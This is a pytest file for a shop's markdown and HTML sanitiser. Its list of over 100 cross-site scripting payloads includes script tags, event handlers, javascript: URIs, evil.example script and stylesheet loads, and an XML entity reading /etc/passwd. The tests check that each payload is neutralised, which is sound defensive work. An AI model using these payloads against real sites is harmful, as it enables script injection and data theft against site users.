"""What people wrote can be read by everybody and can do nothing."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest

from shop.text import ATTRIBUTES, TAGS, imported, markdown, plain, words_of

PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="a > b">
<img src=`x`onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img srcset="x 1x, javascript:alert(1) 2x">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img alt="<script>alert(1)</script>" src=/files/x>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://shop.example/1">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>
<a href="https://shop.example" style="position:fixed;inset:0">x</a>
<a href="https://shop.example" target="_blank" rel="opener">x</a>
<a id=getElementById name=forms href=#>x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex type=image src=1 onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<html onclick=alert(1)>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>
<div onpointerover=alert(1) class="modal" id="csrf">x</div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<title><a title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
<p title="'><img src=x onerror=alert(1)>">x</p>
"><img src=x onerror=alert(1)>
</p></div><script>alert(1)</script>
<<img src=x onerror=alert(1)//<
<x onclick=alert(1)>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<h1 onclick=alert(1)>x</h1>
<h1/onclick=alert(1)>x</h1>
[x](javascript:alert(1))
[x](javascript&colon;alert(1))
[x](JAVASCRIPT:alert(1))
[x](<java	script:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](https://a.example "\" onmouseover=\"alert(1)")
![x](javascript:alert(1))
![x](https://evil.example/count.gif)
![x" onerror="alert(1)](/files/x)
![x](/files/x "a\" onload=\"alert(1)")
<javascript:alert(1)>
[x]: javascript:alert(1) "t" [x]
`<img src=x onerror=alert(1)>`
&lt;script&gt;alert(1)&lt;/script&gt;
<img src="//evil.example/files/x.webp">
<img src="/files/../admin/delete">
<img src="https://evil.example/x.gif">
""".strip().splitlines()


class Dom(HTMLParser):
    """The live parts of a page: its tags with their attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def dangers(markup: str) -> list[str]:
    """Everything in the markup that could act, load from elsewhere, or look like our own interface."""
    found = []
    for tag, attributes in Dom(markup).tags:
        if tag not in TAGS:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name != "rel" and name not in ATTRIBUTES.get(tag, set()):
                found.append(f"{tag} {name}")
            address = re.sub(r"[\x00-\x20]", "", unescape(value or "")).lower()
            if (
                name == "href"
                and ":" in address
                and not address.startswith(("http:", "https:", "mailto:", "tel:"))
            ):
                found.append(f"{tag} href={value}")
            if name == "src" and (not address.startswith("/files/") or ".." in address):
                found.append(f"img src={value}")
    return found


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("read", [markdown, imported])
def test_payload_is_dead(read, payload: str) -> None:  # type: ignore[no-untyped-def]
    assert dangers(read(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_dead_when_it_is_cleaned_twice(payload: str) -> None:
    assert dangers(imported(imported(payload))) == []


def test_the_danger_finder_finds_danger() -> None:
    assert dangers("<img src=x onerror=alert(1)>") == ["img src=x", "img onerror"]
    assert dangers('<a href="java\tscript:alert(1)">x</a>') == ["a href=java\tscript:alert(1)"]


def test_headings_leave_no_step_out_wherever_the_author_began() -> None:
    told = markdown("### How\n\n###### Water\n\n### Why\n\n# What\n")

    assert told == "<h2>How</h2>\n<h3>Water</h3>\n<h2>Why</h2>\n<h2>What</h2>\n"


def test_story_keeps_what_a_story_needs() -> None:
    told = markdown(
        "# Spring\n\nPicked **by hand**, ~~ten~~ nine *grams*.\n\n- one\n- two\n\n|a|b|\n|-|-|\n|1|2|\n"
    )

    assert told == (
        "<h2>Spring</h2>\n<p>Picked <strong>by hand</strong>, <s>ten</s> nine <em>grams</em>.</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
        "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n"
    )


def test_links_tell_search_engines_and_windows_nothing() -> None:
    assert markdown("[maps](https://maps.example/)") == (
        '<p><a href="https://maps.example/" rel="nofollow ugc noopener">maps</a></p>\n'
    )


def test_raw_html_in_markdown_is_shown_as_letters() -> None:
    assert markdown("a <b>bold</b> claim") == "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n"


def test_imported_body_loses_its_clothes_and_keeps_its_words() -> None:
    body = '<meta charset="utf-8"><h1 class="big">Cup</h1><div style="color:red"><p>Holds&nbsp;<b>90 ml</b></p></div>'

    assert imported(body) == "<h2>Cup</h2><p>Holds&nbsp;<b>90 ml</b></p>"


def test_pictures_come_from_our_own_files_or_from_a_named_host() -> None:
    source = "![a](/files/pictures/a.webp) ![b](https://cdn.example/b.png) ![c](https://cdn.example.evil.example/c.png)"

    ours, named = markdown(source), markdown(source, pictures_from=("cdn.example",))

    assert [tag[1].get("src") for tag in Dom(ours).tags if tag[0] == "img"] == [
        "/files/pictures/a.webp",
        None,
        None,
    ]
    assert [tag[1].get("src") for tag in Dom(named).tags if tag[0] == "img"] == [
        "/files/pictures/a.webp", "https://cdn.example/b.png", None,
    ]  # fmt: skip


def test_summary_is_plain_and_short() -> None:
    assert (
        plain("# Spring\n\nPicked **by hand** & dried.\n\n- one\n- two")
        == "Spring Picked by hand & dried. one two"
    )
    assert plain("Slow bread takes patience and time", 20) == "Slow bread takes…"
    assert plain("清明前三天，手工采摘的龙井，豆香清爽。", 12) == "清明前三天，手工采摘的…"
    assert words_of(imported("<p>a<br>b</p><p>c</p>")) == "a b c"


def test_link_to_nowhere_known_is_only_its_words() -> None:
    assert imported('<a href="collections/tea">tea</a>') == '<a rel="nofollow ugc noopener">tea</a>'
    assert imported('<a href="/p/tea">tea</a>') == '<a href="/p/tea" rel="nofollow ugc noopener">tea</a>'


def test_very_deep_and_very_long_texts_end() -> None:
    assert len(imported("<blockquote>" * 40_000)) <= 1_100_000
    assert len(markdown(">" * 50_000 + "x")) <= 200_000
    assert len(markdown("[" * 50_000)) <= 200_000
    assert len(markdown("*a " * 60_000)) <= 400_000
